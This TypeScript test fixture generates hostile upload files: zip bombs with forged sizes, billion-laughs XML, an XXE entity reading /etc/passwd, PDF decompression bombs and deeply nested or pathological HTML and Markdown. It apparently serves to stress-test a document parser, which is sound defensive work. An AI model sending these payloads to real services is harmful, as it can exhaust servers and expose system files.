/** Files made to harm whoever reads them, and scripts in every field that can be brought in: for tests and `npm run attack`. */
import { deflateSync } from "node:zlib";
import { strToU8, type Zippable, zipSync } from "fflate";

const megabyte = 1024 * 1024;
const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const relations =
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';
const types =
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';

/** A Word file whose document is `xml`. */
export const wordFile = (xml: string | Uint8Array, more: Zippable = {}): Uint8Array =>
  zipSync(
    {
      "[Content_Types].xml": strToU8(types),
      "_rels/.rels": strToU8(relations),
      "word/document.xml": typeof xml === "string" ? strToU8(xml) : xml,
      ...more,
    },
    { level: 6 },
  );
export const wordText = (text: string) =>
  wordFile(`<w:document ${w}><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`);

/** The archive with every stated size of unpacked parts made `size`. */
function lying(archive: Uint8Array, size: number): Uint8Array {
  const bytes = Buffer.from(archive);
  for (const [signature, at] of [
    ["PK\u0003\u0004", 22],
    ["PK\u0001\u0002", 24],
  ] as const)
    for (let n = bytes.indexOf(signature, 0, "latin1"); n >= 0; n = bytes.indexOf(signature, n + 4, "latin1"))
      if (bytes.readUInt32LE(n + at) > 10_000) bytes.writeUInt32LE(size, n + at);
  return new Uint8Array(bytes);
}

const entities = (inner: string, use: string) =>
  `<?xml version="1.0"?><!DOCTYPE lolz [${inner}]><w:document ${w}><w:body><w:p><w:r><w:t>${use}</w:t></w:r></w:p></w:body></w:document>`;
const laughs = Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join("");

/** A PDF of one page whose content is the stream, packed as `filter` says. */
export function pdfOf(stream: Uint8Array, filter: string, kids = 1): Uint8Array {
  const parts = [
    "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n",
    `2 0 obj<</Type/Pages/Count ${kids}/Kids[${"3 0 R ".repeat(kids)}]>>endobj\n`,
    "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>endobj\n",
    "5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\n",
    `4 0 obj<</Length ${stream.length}/Filter${filter}>>stream\n`,
  ];
  const tail = "\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF";
  return new Uint8Array(Buffer.concat([Buffer.from(parts.join("")), stream, Buffer.from(tail)]));
}

const spaces = (size: number) => deflateSync(Buffer.alloc(size, 32), { level: 9 });

/** Each by its name, with the name of the file that it is sent as. */
export function bombs(): { name: string; file: string; bytes: Uint8Array }[] {
  const large = new Uint8Array(45 * megabyte).fill(32);
  const packed = spaces(150 * megabyte);
  return [
    { name: "a zip bomb", file: "a.docx", bytes: wordFile(large) },
    { name: "a zip bomb that states a small size", file: "a.docx", bytes: lying(wordFile(large), 900) },
    {
      name: "an archive of ten thousand parts",
      file: "a.docx",
      bytes: wordFile(
        "<x/>",
        Object.fromEntries(Array.from({ length: 10_000 }, (_, n) => [`p${n}`, strToU8("x")])),
      ),
    },
    {
      name: "a billion laughs",
      file: "a.docx",
      bytes: wordFile(entities(`<!ENTITY l0 "lol">${laughs}`, "&l12;")),
    },
    {
      name: "one entity, used a million times",
      file: "a.docx",
      bytes: wordFile(entities(`<!ENTITY a "${"a".repeat(100_000)}">`, "&a;".repeat(1_000_000))),
    },
    {
      name: "an entity that reads a file",
      file: "a.docx",
      bytes: wordFile(entities('<!ENTITY a SYSTEM "file:///etc/passwd">', "&a;")),
    },
    {
      name: "an entity hidden in UTF-16",
      file: "a.docx",
      bytes: wordFile(
        new Uint8Array(Buffer.from(`\ufeff${entities(`<!ENTITY l0 "lol">${laughs}`, "&l12;")}`, "utf16le")),
      ),
    },
    {
      name: "XML 60,000 deep",
      file: "a.docx",
      bytes: wordFile(
        `<w:document ${w}><w:body>${"<w:sdt>".repeat(60_000)}${"</w:sdt>".repeat(60_000)}</w:body></w:document>`,
      ),
    },
    { name: "a PDF that unpacks to 150 MB", file: "a.pdf", bytes: pdfOf(packed, "/FlateDecode") },
    {
      name: "a PDF packed twice",
      file: "a.pdf",
      bytes: pdfOf(deflateSync(packed), "[/FlateDecode /FlateDecode]"),
    },
    {
      name: "a PDF of 200,000 pages that are one",
      file: "a.pdf",
      bytes: pdfOf(spaces(10), "/FlateDecode", 200_000),
    },
    {
      name: "a page of 300,000 elements, one in the other",
      file: "a.html",
      bytes: strToU8(`<p>${"<div>".repeat(300_000)}x`),
    },
    {
      name: "a page of a million unclosed links",
      file: "a.html",
      bytes: strToU8("<a href=x>".repeat(900_000)),
    },
    {
      name: "a page of one attribute of 9 MB",
      file: "a.html",
      bytes: strToU8(`<p title="${"x ".repeat(4_500_000)}">x</p>`),
    },
    { name: "Markdown of brackets", file: "a.md", bytes: strToU8("[![".repeat(500_000)) },
    { name: "Markdown of stars", file: "a.md", bytes: strToU8("*a **b ".repeat(200_000)) },
    {
      name: "front matter without an end",
      file: "a.md",
      bytes: strToU8(`---\n${"a: b\n".repeat(1_000_000)}`),
    },
  ];
}
